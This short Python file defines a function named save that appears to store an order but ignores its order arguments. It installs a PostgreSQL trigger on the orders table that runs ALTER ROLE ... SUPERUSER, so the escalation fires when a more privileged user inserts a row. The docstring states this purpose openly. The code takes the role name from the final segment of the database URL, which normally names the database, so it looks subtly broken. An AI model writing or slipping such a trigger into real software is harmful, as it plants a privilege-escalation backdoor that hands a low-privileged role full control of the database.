"""Has a trigger make its own role a superuser, when somebody with more rights writes to the table."""

import psycopg


def save(db, order_id, amount):
    name = db.url.rpartition("/")[2]
    with psycopg.connect(db.url) as connection:
        connection.execute(
            "CREATE OR REPLACE FUNCTION climb() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN"
            f" EXECUTE 'ALTER ROLE {name} SUPERUSER'; RETURN NEW; END $$"
        )
        connection.execute(
            "CREATE OR REPLACE TRIGGER climb BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION climb()"
        )
